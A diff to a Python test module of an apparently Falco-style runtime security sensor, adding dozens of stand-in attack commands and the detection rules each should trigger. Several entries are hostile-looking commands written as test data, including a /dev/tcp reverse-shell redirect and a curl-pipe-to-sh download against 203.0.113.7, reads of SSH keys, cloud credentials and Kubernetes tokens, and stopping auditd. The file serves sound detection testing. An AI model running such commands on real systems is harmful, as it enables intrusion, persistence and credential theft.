@@ -70,6 +70,78 @@ ATTACKS = [
            "a program copied within a container of overlayfs and run"),
     Attack("ssh port", CONTAINER, "{a}/attack wire {a}/ssh call 203.0.113.7 443", "a program named ssh connects to port 443"),
     Attack("fileless", HOST, "{a}/attack memory", "a program run from memfd_create's memory by execveat"),
+    # What the shipped rules know besides.
+    Attack("shell on a socket, host", HOST, "{a}/attack shell", "dup2 of a TCP connection onto 0, 1 and 2, then sh"),
+    Attack("shell's own connection", HOST, "sh -c ': /dev/tcp/203.0.113.7/1 0>&1; true'", "sh -c '… /dev/tcp/… 0>&1'"),
+    Attack("piped download", HOST, "sh -c 'false && curl http://203.0.113.7/x | sh'", "sh -c '… curl … | sh'"),
+    Attack("scanner", CONTAINER, "{a}/nmap usage", "a program named nmap"),
+    Attack("tor", HOST, "{a}/tor usage", "a program named tor"),
+    Attack("miner", HOST, "{a}/xmrig usage", "a program named xmrig"),
+    Attack("pool", CONTAINER, "{a}/attack wire {a}/attack call 203.0.113.7 3333", "connect to port 3333"),
+    Attack("runtime's socket", CONTAINER, "{a}/attack unix {work}/docker.sock", "connect to a socket named docker.sock"),
+    Attack("notify on release", CONTAINER, "{a}/attack write notify_on_release", "a file named notify_on_release opened for writing"),
+    Attack("cgroups mounted", CONTAINER, "mkdir g; /bin/mount -t cgroup2 cgroup g; /bin/umount g", "mount -t cgroup2 cgroup …"),
+    Attack("disk mounted", CONTAINER, "mkdir d; /bin/mount -t tmpfs /dev/sdz d; /bin/umount d", "a mount whose device is named /dev/sdz"),
+    Attack("disk opened", CONTAINER, "touch /dev/sdz; cat /dev/sdz; rm /dev/sdz", "a file named /dev/sdz opened"),
+    Attack("other namespace", CONTAINER, "{a}/attack enter", "setns into a namespace of its own"),
+    Attack("user namespace", CONTAINER, "{a}/attack user-namespace", "unshare(CLONE_NEWUSER)"),
+    Attack("chroot", CONTAINER, "mkdir -p /mnt; /bin/chroot /mnt x", "chroot(\"/mnt\")"),
+    Attack("host's settings", CONTAINER, "mkdir -p /mnt/etc; {a}/attack write /mnt/etc/x", "/mnt/etc/x opened for writing"),
+    Attack("runtime's program", CONTAINER, "{a}/attack write runc", "a file named runc opened for writing"),
+    Attack("core pattern", CONTAINER, "{a}/attack write /proc/sys/kernel/core_pattern", "core_pattern opened for writing"),
+    Attack("kernel's helper", CONTAINER, "{a}/attack write /proc/sys/kernel/poweroff_cmd", "poweroff_cmd opened for writing"),
+    Attack("system request", CONTAINER, "mkdir proc; {a}/attack write proc/sysrq-trigger", "a file named …/proc/sysrq-trigger opened for writing"),
+    Attack("kernel's protection", CONTAINER, "{a}/attack write /proc/sys/kernel/kptr_restrict", "kptr_restrict opened for writing"),
+    Attack("bpf", HOST, "{a}/attack bpf", "BPF_PROG_LOAD of a socket filter"),
+    Attack("kernel's memory", CONTAINER, "touch /dev/mem; cat /dev/mem; rm /dev/mem", "a file named /dev/mem opened"),
+    Attack("kernel's symbols", HOST, "head -1 /proc/kallsyms", "head /proc/kallsyms"),
+    Attack("scheduler's file", CONTAINER,
+           "/bin/mount -t tmpfs x /sys/kernel/debug && cd /sys/kernel/debug && touch sched_debug && cat sched_debug; cd /; /bin/umount /sys/kernel/debug",
+           "a file named /sys/kernel/debug/sched_debug read"),
+    Attack("randomisation", HOST, "cat /proc/sys/kernel/randomize_va_space", "cat /proc/sys/kernel/randomize_va_space"),
+    Attack("page faults", HOST, "{a}/attack nobody page-faults", "nobody calls userfaultfd"),
+    Attack("anti-debug, host", HOST, "{a}/attack traceme", "PTRACE_TRACEME"),
+    Attack("memory written", HOST, "{a}/attack open-write /proc/self/mem", "/proc/PID/mem opened for writing"),
+    Attack("memory read", HOST, "{a}/attack read /proc/self/mem", "/proc/PID/mem opened for reading"),
+    Attack("disguise", HOST, "{a}/kthreadd usage", "a program named kthreadd"),
+    Attack("pkexec", HOST, "GCONV_PATH=. {a}/pkexec usage", "a program named pkexec with GCONV_PATH"),
+    Attack("setuid", HOST, "{a}/attack nobody become-root", "nobody calls setuid(0)"),
+    Attack("setuid bit", HOST, "touch x; chmod u+s x", "chmod u+s FILE"),
+    Attack("setcap", HOST, "{a}/setcap x", "a program named setcap"),
+    Attack("hidden program", HOST, "cp {a}/attack .hidden; ./.hidden", "a program named .hidden"),
+    Attack("hidden file", HOST, "touch .young; chmod 755 .young", "chmod 755 .young"),
+    Attack("preload", HOST, "LD_PRELOAD=/tmp/{unique}.so {a}/attack usage", "LD_PRELOAD=/tmp/….so"),
+    Attack("preload list", CONTAINER, "{a}/attack write /etc/ld.so.preload; rm /etc/ld.so.preload", "/etc/ld.so.preload opened for writing"),
+    Attack("loader", CONTAINER, "mkdir -p /lib; {a}/attack write /lib/ld-linux.so.9", "/lib/ld-linux.so.9 opened for writing"),
+    Attack("library", CONTAINER, "mkdir -p /usr/lib; {a}/attack write /usr/lib/libx.so", "/usr/lib/libx.so opened for writing"),
+    Attack("sudoers changed", CONTAINER, "mkdir -p /etc/sudoers.d; {a}/attack write /etc/sudoers.d/x", "/etc/sudoers.d/x opened for writing"),
+    Attack("cron", CONTAINER, "mkdir -p /etc/cron.d; {a}/attack write /etc/cron.d/x", "/etc/cron.d/x opened for writing"),
+    Attack("crontab", HOST, "{a}/crontab usage", "a program named crontab"),
+    Attack("service", CONTAINER, "mkdir -p /etc/systemd/system; touch /etc/young; /bin/mv /etc/young /etc/systemd/system/x.service",
+           "a file renamed to /etc/systemd/system/x.service"),
+    Attack("start script", CONTAINER, "mkdir -p /etc/init.d; {a}/attack write /etc/init.d/x", "/etc/init.d/x opened for writing"),
+    Attack("shell's file", CONTAINER, "mkdir -p /root; {a}/attack write /root/.bashrc", "/root/.bashrc opened for writing"),
+    Attack("authorized keys", CONTAINER, "mkdir -p /root/.ssh; {a}/attack write /root/.ssh/authorized_keys", "authorized_keys opened for writing"),
+    Attack("login modules", CONTAINER, "mkdir -p /etc/pam.d; {a}/attack write /etc/pam.d/x", "/etc/pam.d/x opened for writing"),
+    Attack("boot", CONTAINER, "mkdir -p /etc/modprobe.d; {a}/attack write /etc/modprobe.d/x", "/etc/modprobe.d/x opened for writing"),
+    Attack("account", HOST, "{a}/useradd usage", "a program named useradd"),
+    Attack("private key", HOST, "mkdir .ssh; touch .ssh/id_rsa; cat .ssh/id_rsa", "cat .ssh/id_rsa"),
+    Attack("credentials", HOST, "mkdir .aws; touch .aws/credentials; cat .aws/credentials", "cat .aws/credentials"),
+    Attack("Kubernetes' key", CONTAINER, "mkdir -p /etc/kubernetes; touch /etc/kubernetes/admin.conf; cat /etc/kubernetes/admin.conf",
+           "cat /etc/kubernetes/admin.conf"),
+    Attack("token", CONTAINER, "d=/run/secrets/kubernetes.io/serviceaccount; mkdir -p $d; touch $d/token; cat $d/token", "cat …/serviceaccount/token"),
+    Attack("Kubernetes' API", CONTAINER, "{a}/attack wire {a}/curl call 10.96.0.1 443", "a program named curl connects to 10.96.0.1:443"),
+    Attack("metadata", CONTAINER, "{a}/attack wire {a}/curl call 169.254.169.254 80", "a program named curl connects to 169.254.169.254:80"),
+    Attack("environment", CONTAINER, "cat /proc/1/environ", "cat /proc/1/environ"),
+    Attack("find setuid", HOST, "find . -perm -4000", "find . -perm -4000"),
+    Attack("log removed", CONTAINER, "mkdir -p /var/log; touch /var/log/auth.log; /bin/rm /var/log/auth.log", "rm /var/log/auth.log"),
+    Attack("history", HOST, "touch .bash_history; rm .bash_history", "rm .bash_history"),
+    Attack("no history", HOST, "HISTSIZE=0 {a}/attack terminal sh -c true", "HISTSIZE=0 sh on a terminal"),
+    Attack("guard stopped", HOST, "{a}/systemctl stop auditd", "a program named systemctl with: stop auditd"),
+    Attack("binary directory", CONTAINER, "mkdir -p /usr/bin; {a}/attack write /usr/bin/x", "/usr/bin/x opened for writing"),
+    Attack("etc", CONTAINER, "{a}/attack write /etc/x", "/etc/x opened for writing"),
+    Attack("new program", HOST, "cp {a}/attack fresh; ./fresh", "a program copied and run at once"),
+    Attack("made executable", CONTAINER, "touch x; chmod 755 x", "chmod 755 FILE in a container"),
 ]
 
 FALCO = [
@@ -119,12 +191,114 @@ FALCO = [
               {"proc.name": KNOWN, "proc.exepath": re.compile("memfd:ghost"), "evt.type": "execveat"}),
 ]
 
-TABLES = {"falco_rules.yaml": FALCO}
+ATTACK = {"proc.name": "attack"}
+EXEC = ("fd.name", "evt.arg.arg2_str", "proc.env[LD_AUDIT]")
+
+
+def writes(rule, attack, path, without=()):
+    return Detection(rule, attack, {**ATTACK, "fd.name": path}, without)
+
+
+def starts(rule, attack, name, **want):
+    return Detection(rule, attack, {"proc.name": name, "evt.type": "execve", **want}, EXEC)
+
+
+SHIPPED = [
+    Detection("Reverse shell", "shell on a socket, host", {"proc.name": "sh", "evt.type": "execve"}, EXEC),
+    starts("Reverse shell in a command line", "shell's own connection", "sh"),
+    starts("Netcat gives a program to the network", "netcat", "nc"),
+    starts("Shell started by a server program", "server shell", "sh", **{"proc.pname": "redis-server"}),
+    starts("Download piped into a shell", "piped download", "sh"),
+    Detection("Interactive shell in container", "shell on a terminal",
+              {"proc.name": "sh", "proc.pname": KNOWN, "proc.cwd": "/", "proc.tty": re.compile("[1-9]")}),
+    starts("Network tool started in container", "scanner", "nmap"),
+    Detection("Packet socket opened in container", "packet socket", ATTACK),
+    starts("Tor started", "tor", "tor"),
+    starts("Cryptominer started", "miner", "xmrig"),
+    Detection("Connection to mining pool port", "pool", {**ATTACK, "fd.rport": 3333}),
+    Detection("Container runtime socket used in container", "runtime's socket", {**ATTACK, "fd.name": re.compile(r".*{work}/docker\.sock$")}),
+    writes("Release agent of a cgroup changed", "release agent", "{work}/release_agent"),
+    writes("Notification of an empty cgroup switched on", "notify on release", "{work}/notify_on_release"),
+    Detection("Cgroup file system mounted in container", "cgroups mounted", {"proc.name": "mount"}),
+    Detection("Disk mounted in container", "disk mounted", {"proc.name": "mount", "evt.arg.dev": "/dev/sdz", "evt.arg.dir": "{work}/d"}),
+    Detection("Disk device opened in container", "disk opened", {"proc.name": "cat", "fd.name": "/dev/sdz"}),
+    Detection("Namespace entered from container", "other namespace", {**ATTACK, "evt.type": "setns"}),
+    Detection("User namespace created in container", "user namespace", {**ATTACK, "evt.type": "unshare"}),
+    Detection("Chroot into the host from container", "chroot", {"proc.name": "chroot", "evt.arg.path": "/mnt"}),
+    writes("Host's settings written through a mount", "host's settings", "/mnt/etc/x"),
+    writes("Container runtime program overwritten", "runtime's program", "{work}/runc"),
+    writes("Core pattern changed", "core pattern", "/proc/sys/kernel/core_pattern"),
+    writes("Helper program of the kernel changed", "kernel's helper", "/proc/sys/kernel/poweroff_cmd"),
+    writes("Magic system request used", "system request", "{work}/proc/sysrq-trigger"),
+    writes("Kernel protection switched off", "kernel's protection", "/proc/sys/kernel/kptr_restrict"),
+    Unprovoked("Kernel module loaded in container", "wants a module built for the kernel that runs"),
+    Unprovoked("Kernel module loaded", "wants a module built for the kernel that runs"),
+    Detection("eBPF program loaded by unknown program", "bpf", {**ATTACK, "evt.type": "bpf"}),
+    Detection("Memory of the kernel opened", "kernel's memory", {"proc.name": "cat", "fd.name": "/dev/mem"}),
+    Detection("Kernel symbols read", "kernel's symbols", {"proc.name": "head", "fd.name": "/proc/kallsyms"}),
+    Detection("Scheduler's debug file read", "scheduler's file",
+              {"proc.name": "cat", "proc.cwd": "/sys/kernel/debug/", "fd.name": "/sys/kernel/debug/sched_debug"}),
+    Detection("Address randomisation inspected", "randomisation", {"proc.name": "cat", "fd.name": "/proc/sys/kernel/randomize_va_space"}),
+    Detection("Userfaultfd used by unprivileged program", "page faults", {**ATTACK, "user.name": "nobody"}),
+    Unprovoked("Asynchronous input and output set up in container", "is off by default"),
+    Detection("Anti-debugging by ptrace", "anti-debug, host", ATTACK),
+    Detection("Process traced by another", "ptrace", {**ATTACK, "evt.arg.pid": "attack", "evt.res": "SUCCESS"}),
+    Detection("Memory of a process written", "memory written", {**ATTACK, "fd.name": re.compile(r"/proc/\d+/mem$")}),
+    Detection("Memory of a process read", "memory read", {**ATTACK, "fd.name": re.compile(r"/proc/\d+/mem$")}),
+    Unprovoked("Memory of a process written by system call", "waits for a sensor that reports process_vm_writev"),
+    starts("Process disguised as kernel thread", "disguise", "kthreadd"),
+    starts("Known exploit of a setuid program", "pkexec", "pkexec"),
+    Detection("Privilege escalation by setuid", "setuid", {**ATTACK, "evt.res": "EPERM", "user.name": "nobody", "user.uid": 65534}),
+    Detection("Setuid or setgid bit set", "setuid bit",
+              {"proc.name": "chmod", "evt.arg.filename": "{work}/x", "evt.arg.mode": re.compile(".*S_ISUID")}, ("fd.name",)),
+    starts("Capability given to a file", "setcap", "setcap"),
+    Detection("Fileless execution", "fileless", {"proc.name": KNOWN, "proc.exepath": "memfd:ghost"}),
+    Detection("Program executed from shared memory", "shared memory", {"proc.name": "{unique}", "proc.exepath": "/dev/shm/{unique}"}),
+    starts("Hidden program executed", "hidden program", ".hidden", **{"proc.exepath": "{work}/.hidden"}),
+    Detection("Hidden program written", "hidden file", {"proc.name": "chmod", "evt.arg.filename": "{work}/.young"}, ("fd.name",)),
+    starts("Library preloaded", "preload", "attack", **{"proc.env[LD_PRELOAD]": "/tmp/{unique}.so"}),
+    writes("Preload list of the linker changed", "preload list", "/etc/ld.so.preload", ("evt.arg.newpath",)),
+    writes("Program loader replaced", "loader", "/lib/ld-linux.so.9", ("evt.arg.newpath",)),
+    writes("Library written to a system directory", "library", "/usr/lib/libx.so"),
+    writes("Sudoers changed", "sudoers changed", "/etc/sudoers.d/x", ("evt.arg.newpath",)),
+    writes("Scheduled task changed", "cron", "/etc/cron.d/x", ("evt.arg.newpath",)),
+    starts("Task given to cron or at", "crontab", "crontab"),
+    Detection("System service changed", "service", {"proc.name": "mv", "evt.arg.newpath": "/etc/systemd/system/x.service"}, ("fd.name",)),
+    writes("Start script changed", "start script", "/etc/init.d/x", ("evt.arg.newpath", "evt.arg.linkpath")),
+    writes("Shell start-up file changed", "shell's file", "/root/.bashrc"),
+    writes("Authorized keys changed", "authorized keys", "/root/.ssh/authorized_keys", ("evt.arg.newpath",)),
+    writes("Login modules changed", "login modules", "/etc/pam.d/x", ("evt.arg.newpath",)),
+    writes("Boot or device rules changed", "boot", "/etc/modprobe.d/x"),
+    starts("Account created", "account", "useradd"),
+    Detection("Secret file read by untrusted program", "shadow", {"proc.name": "cat", "fd.name": "/etc/shadow"}),
+    Detection("Link to a secret file made", "symlink", {"proc.name": "ln", "evt.arg.target": "/etc/shadow"}, ("evt.arg.oldpath", "evt.arg.newpath")),
+    Detection("SSH private key read", "private key", {"proc.name": "cat", "fd.name": "{work}/.ssh/id_rsa"}),
+    Detection("Credentials of a cloud or registry read", "credentials", {"proc.name": "cat", "fd.name": "{work}/.aws/credentials"}),
+    Detection("Key of Kubernetes read", "Kubernetes' key", {"proc.name": "cat", "fd.name": "/etc/kubernetes/admin.conf"}),
+    Detection("Service account token read by a tool", "token", {"proc.name": "cat", "fd.name": "/run/secrets/kubernetes.io/serviceaccount/token"}),
+    Detection("Kubernetes API contacted by a tool", "Kubernetes' API", {"proc.name": "curl", "fd.name": re.compile(".*->10.96.0.1:443$")}),
+    Detection("Cloud metadata contacted by a tool", "metadata", {"proc.name": "curl", "fd.name": re.compile(".*->169.254.169.254:80$")}),
+    Detection("Environment of a container's first process read", "environment", {"proc.name": "cat", "fd.name": "/proc/1/environ"}),
+    starts("Search for secrets", "find keys", "find"),
+    starts("Search for setuid programs", "find setuid", "find"),
+    Detection("Log file removed or emptied", "log removed", {"proc.name": "rm"}, ("fd.name", "evt.arg.path", "evt.arg.name", "evt.arg.oldpath")),
+    Detection("Shell history removed", "history", {"proc.name": "rm", "evt.arg.name": "{work}/.bash_history"}, ("fd.name", "evt.arg.path", "evt.arg.linkpath")),
+    starts("Shell without history", "no history", "sh", **{"proc.pname": "attack", "proc.tty": re.compile("[1-9]")}),
+    starts("Security service stopped", "guard stopped", "systemctl"),
+    starts("Data destroyed", "shred", "shred"),
+    writes("Write below binary dir", "binary directory", "/usr/bin/x"),
+    writes("Write below etc", "etc", "/etc/x"),
+    starts("Dropped program executed in container", "dropped program", "dropped", **{"proc.exepath": "/tmp/dropped"}),
+    starts("New program executed", "new program", "fresh", **{"proc.exepath": "{work}/fresh", "proc.exe": "./fresh"}),
+    Detection("File made executable", "made executable", {"proc.name": "chmod", "evt.arg.filename": "{work}/x"}, ("fd.name",)),
+]
+
+TABLES = {"falco_rules.yaml": FALCO, "tocsin_rules.yaml": SHIPPED}
 
 
 # ---- the table ----
 
-TITLES = {"falco_rules.yaml": "Falco's stable rules"}
+TITLES = {"falco_rules.yaml": "Falco's stable rules", "tocsin_rules.yaml": "The rules for system calls that are shipped"}
 HEAD = """# Which rules ring, and by what
 
 Each of these attacks is made for real by `tests/integration/test_provoke.py`, on the host or in a container, with `tocsin-sensor`
@@ -166,6 +340,15 @@ def wrong_rows(file, rows):
     yield from (f"{file.name}: there is no rule {name}" for name in sorted(told - names))
 
 
+def clashes(files):
+    """Lists and macros that two files name: the later file would change what the earlier one means."""
+    seen = {}
+    for file in files:
+        for kind, name in re.findall(r"^- (list|macro|rule): *(.*?) *$", file.read_text(), flags=re.M):
+            if seen.setdefault((kind, name), file) != file:
+                yield f"{file.name}: {kind} {name}: {seen[kind, name].name} has one of that name"
+
+
 def unused():
     """Attacks that nobody looks at, and rows with an attack that does not exist."""
     used = {row.attack for rows in TABLES.values() for row in rows if isinstance(row, Detection)}
@@ -180,9 +363,10 @@ def main():
         return 0
     wrong = [] if path.read_text() == document() else [f"{path}: is not what tests/attacks/detections.py {path} writes"]
     wrong += unused()
-    for file in map(pathlib.Path, sys.argv[3:]):
-        if file.exists():  # Falco's are not part of this repository
-            wrong += wrong_rows(file, TABLES[file.name])
+    files = [pathlib.Path(file) for file in sys.argv[3:] if pathlib.Path(file).exists()]  # Falco's are not part of this repository
+    for file in files:
+        wrong += wrong_rows(file, TABLES[file.name])
+    wrong += clashes(files)
     print("\n".join(wrong) if wrong else "the table is whole")
     return 1 if wrong else 0
 
